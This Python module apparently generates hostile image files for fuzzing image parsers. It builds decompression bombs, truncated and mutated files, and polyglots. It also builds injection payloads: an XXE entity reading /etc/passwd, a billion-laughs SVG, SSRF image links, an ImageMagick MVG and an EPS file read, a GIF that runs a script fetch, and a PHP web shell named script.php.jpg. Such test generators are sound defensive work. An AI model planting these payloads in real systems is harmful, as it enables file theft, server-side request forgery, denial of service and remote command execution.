"""Picture files that mean harm: bombs, cut ones, wrong types, several formats in one, damage."""

from __future__ import annotations

import gzip
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator

import numpy as np
from PIL import Image

from .mutations import _bases, _mutated
from .pictures import FORMATS, drawn, encoded


def hostile_images(
    count: int, seed: int, place: str = "/etc/passwd", url: str = "http://127.0.0.1:9/", *, heavy: bool = True
) -> Iterator[tuple[str, bytes]]:
    """Names and bytes, ``count`` in all: what is made by hand, mixed, then damaged files (these alone but for seed 0).

    ``place`` and ``url`` are what those point to that point to something. Without ``heavy``, no bombs.
    """
    rng = random.Random(seed)
    made = [] if seed else [*_wrong(place, url), *_polyglots(place, url), *_cut(rng)]
    made += _bombs() if heavy and not seed else ()
    rng.shuffle(made)
    yield from made[:count]
    bases = {name: _bases(name) for name in FORMATS}
    for number in range(count - len(made)):
        name = FORMATS[number % len(FORMATS)]
        yield f"damaged {number}.{name}", _mutated(rng.choice(bases[name]), rng)


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(
    width: int, height: int, packed: bytes, *, depth: int = 8, colour: int = 2, extra: bytes = b"", interlace: int = 0
) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, interlace)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + extra + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def zeros(size: int) -> bytes:
    """Deflated zeros, about a thousandth of their size."""
    packer = zlib.compressobj(9)
    piece = bytes(1 << 20)
    parts = [packer.compress(piece) for _ in range(size >> 20)]
    return b"".join((*parts, packer.compress(piece[: size & 0xFFFFF]), packer.flush()))


def _bombs() -> Iterator[tuple[str, bytes]]:
    many = zeros(64 << 20)
    for width, height in ((60_000, 60_000), (1, 2**31 - 1), (2**31 - 1, 2**31 - 1), (65_535, 763), (0, 0), (0, 9)):
        yield f"bomb {width}x{height}.png", png(width, height, many)
    yield "7000x7000 of nothing.png", png(7000, 7000, zeros(7000 * 21_001))
    yield "5000x5000 deep.png", png(5000, 5000, zeros(5000 * 40_001), depth=16, colour=6)
    yield "7000x7000 interlaced.png", png(7000, 7000, zeros(7000 * 28_100), colour=6, interlace=1)
    yield "too many bytes.png", png(10, 10, many)
    yield "text bomb.png", png(2, 2, zlib.compress(bytes(14)), extra=chunk(b"zTXt", b"a\0\0" + many))
    yield "itxt bomb.png", png(2, 2, zlib.compress(bytes(14)), extra=chunk(b"iTXt", b"a\0\1\0\0\0" + many))
    yield "profile bomb.png", png(2, 2, zlib.compress(bytes(14)), extra=chunk(b"iCCP", b"a\0\0" + many))
    yield "chunks.png", png(2, 2, zlib.compress(bytes(14)), extra=chunk(b"tEXt", b"a\0b") * 100_000)
    yield "texts.png", png(2, 2, zlib.compress(bytes(14)), extra=chunk(b"tEXt", b"a\0" + b"b" * 900_000) * 20)
    frames = chunk(b"acTL", struct.pack(">II", 2**31 - 1, 0)) + b"".join(
        chunk(b"fcTL", struct.pack(">IIIIIHHBB", n, 2, 2, 0, 0, 1, 1, 0, 0)) for n in range(20_000)
    )
    yield "frames.png", png(2, 2, zlib.compress(bytes(14)), extra=frames)
    gif = encoded(drawn(), "gif")
    for size in (b"\xff\xff\xff\xff", b"\0\0\0\0", b"\xff\xff\1\0"):
        yield f"bomb {size.hex()}.gif", gif[:6] + size + gif[10:]
    at = gif.index(b"\x2c")
    yield "large frame.gif", gif[: at + 5] + b"\xff\x7f\xff\x7f" + gif[at + 9 :]
    yield "100,000 frames.gif", gif[:at] + gif[at:-1] * (100_000 * 40 // len(gif)) + b";"
    yield "endless.gif", gif[:-1] + b"\x21\xfe\xff" + b"x" * 255 + b"\xff" * 500_000
    jpeg = encoded(drawn(), "jpeg")
    frame = jpeg.index(b"\xff\xc0")
    for height, width in ((65_535, 65_535), (0, 100), (100, 0), (1, 65_535), (7000, 7000), (65_500, 760)):
        yield f"{width}x{height}.jpeg", jpeg[: frame + 5] + struct.pack(">HH", height, width) + jpeg[frame + 9 :]
    yield "segments.jpeg", jpeg[:2] + b"\xff\xfe\0\x04ab" * 300_000 + jpeg[2:]
    yield "fill.jpeg", jpeg[:2] + b"\xff" * 3_000_000 + jpeg[2:]
    yield "scans.jpeg", _scans(2500, 400)
    webp = encoded(drawn(), "webp")
    yield "bomb.webp", webp[:21] + b"\xff\xff\xff\x0f" + webp[25:]
    extended = b"VP8X" + struct.pack("<I", 10) + b"\x02\0\0\0" + b"\xff\xff\xff" * 2
    yield "canvas.webp", b"RIFF" + struct.pack("<I", len(webp) + 10) + b"WEBP" + extended + webp[12:]
    yield "chunks.webp", _webp(webp[12:] + b"ABCD\0\0\0\0" * 300_000)
    yield "size.webp", webp[:4] + b"\xff\xff\xff\xff" + webp[8:]


def _webp(body: bytes) -> bytes:
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def _scans(side: int, count: int) -> bytes:
    """A progressive JPEG that repeats its last scan: each goes over the whole picture again."""
    data = encoded(Image.new("RGB", (side, side)), "jpeg", progressive=True)
    at = data.rindex(b"\xff\xda")
    return data[:at] + data[at:-2] * count + b"\xff\xd9"


def _wrong(place: str, url: str) -> Iterator[tuple[str, bytes]]:
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}"/><image href="file://{place}"/></svg>'
    entity = f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://{place}">]><svg>&x;</svg>'
    for name, text in (
        ("a.svg", svg),
        ("entity.svg", entity),
        ("laughs.svg", '<!DOCTYPE a [<!ENTITY b "' + "c" * 10**6 + '">]><a>' + "&b;" * 1000 + "</a>"),
        ("page.jpg", f"<html><body>404<img src='{url}'></body></html>"),
        ("magick.mvg", f"push graphic-context\nimage over 0,0 0,0 '{url}'\npop graphic-context"),
        ("script.eps", f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n({place}) (r) file\nshowpage\n"),
        ("paper.pdf", f"%PDF-1.7\n1 0 obj <</URI({url})>> endobj"),
        ("script.php.jpg", "<?php system($_GET['c']); ?>"),
        ("empty.png", ""),
        ("x.xpm", "/* XPM */ static char *x[]={"),
    ):
        yield name, text.encode()
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("a.png", encoded(drawn(), "png"))
    yield "archive.png", archive.getvalue()
    yield "packed.png", gzip.compress(encoded(drawn(), "png"))
    yield "program.png", b"\x7fELF" + bytes(500)
    yield "zeros.jpg", bytes(1_000_000)
    yield "noise.jpg", np.random.default_rng(0).bytes(100_000)
    picture = Image.fromarray(drawn())
    for kind in ("BMP", "TIFF", "ICO", "PPM", "TGA", "PCX", "SGI", "DDS", "EPS", "PDF", "JPEG2000", "MPO", "AVIF"):
        out = io.BytesIO()
        try:
            picture.save(out, kind)
        except (OSError, KeyError):
            continue
        yield f"{kind.lower()}.jpg", out.getvalue()
    heads = {name: encoded(drawn(), name) for name in FORMATS}
    for first, head in heads.items():
        for second, body in heads.items():
            if first != second:
                yield f"{second} behind the head of {first}", head[:12] + body[12:]
        yield f"only the head of {first}", head[:64]


def _polyglots(place: str, url: str) -> Iterator[tuple[str, bytes]]:
    tails = {
        "zip": b"PK\x03\x04" + bytes(26) + b"PK\x05\x06" + bytes(18),
        "html": f"<script src='{url}'></script>".encode(),
        "mp4": b"\0\0\0\x18ftypisom" + bytes(12) + b"\xff\xff\xff\xffmoov",
        "playlist": f"#EXTM3U\n#EXTINF:1,\n{url}\nfile://{place}\n".encode(),
        "picture": encoded(drawn(), "jpeg"),
    }
    for name in FORMATS:
        data = encoded(drawn(), name)
        for kind, tail in tails.items():
            yield f"{name} and {kind}", data + tail
            yield f"{kind} and {name}", tail + data
    yield "script.gif", b"GIF89a/*" + bytes(50) + f"*/=1;fetch('{url}')".encode()
    jpeg = encoded(drawn(), "jpeg")
    yield "comment.jpeg", jpeg[:2] + b"\xff\xfe\x10\0" + tails["html"].ljust(0xFFE, b" ") + jpeg[2:]


def _cut(rng: random.Random) -> Iterator[tuple[str, bytes]]:
    for name in FORMATS:
        for number, data in enumerate(_bases(name)):
            for length in sorted({rng.randrange(len(data)) for _ in range(24)}):
                yield f"{number} cut at {length}.{name}", data[:length]
